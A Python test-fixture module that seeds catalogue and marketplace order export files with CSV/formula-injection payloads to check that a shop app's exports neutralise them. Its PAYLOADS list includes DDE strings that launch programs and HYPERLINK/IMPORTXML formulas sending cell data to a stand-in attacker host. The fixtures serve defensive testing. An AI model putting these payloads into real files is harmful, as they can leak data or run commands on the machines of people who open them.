"""Files a stranger could hand the shop: a product catalogue and seller-centre order exports whose text cells try
to become formulas when the shop's own exports are opened in a spreadsheet (CSV/formula injection)."""

from __future__ import annotations

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from companion.services.reports import CATALOGUE_HEADERS
from tests.order_files import lazada_file, lazada_line, shopee_file, shopee_line, tiktok_file, tiktok_line

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk diskon")',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
)


def catalogue_rows() -> list[list[Any]]:
    """Two products per payload, the payload in every text column the product rules let hold it (a unit or
    barcode like these is refused by the import itself)."""
    rows: list[list[Any]] = [list(CATALOGUE_HEADERS)]
    for n, payload in enumerate(PAYLOADS):
        rows.append([f"FX-{n}", f"{payload} nama", payload, payload, "pcs", 10_000 + n, 5_000, 50, ""])
        rows.append([f"FY-{n}", payload, "", "", "pcs", 12_000 + n, 6_000, 50, ""])
    return rows


def write_catalogue(path: Path) -> Path:
    rows = catalogue_rows()
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows(rows)
        return path
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for cells in sheet.iter_rows(min_row=2):  # typed as text, as a person pasting them would leave them
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    book.save(path)
    return path


def _lines(make: Any, skus: Sequence[str]) -> list[dict[str, Any]]:
    return [make(n, sku, payload) for n, (sku, payload) in enumerate(zip(skus, PAYLOADS, strict=False))]


def write_order_files(folder: Path) -> list[Path]:
    """A Shopee, a TikTok Shop and a Lazada export (CSV and XLSX), product and buyer names poisoned."""
    files: list[Path] = []
    for k, suffix in enumerate((".csv", ".xlsx"), start=1):
        files += _order_files(folder, suffix, k)
    return files


def _order_files(folder: Path, suffix: str, k: int) -> list[Path]:
    skus = [f"FY-{n}" for n in range(len(PAYLOADS))]
    return [
        shopee_file(folder / f"shopee{suffix}", _lines(
            lambda n, sku, p: shopee_line(f"FX{k}{n:04d}", sku, 1, 12_000, **{
                "Nama Produk": p, "Username (Pembeli)": p, "Nama Variasi": p}), skus)),
        tiktok_file(folder / f"tiktok{suffix}", _lines(
            lambda n, sku, p: tiktok_line(f"58{k}{n:012d}", sku, 1, 12_000, **{
                "Product Name": p, "Buyer Username": p, "Variation": p}), skus)),
        lazada_file(folder / f"lazada{suffix}", _lines(
            lambda n, sku, p: lazada_line(f"9{k}{n:08d}", f"7{k}{n:08d}", sku, 12_000, **{
                "itemName": p, "customerName": p, "variation": p}), skus)),
    ]
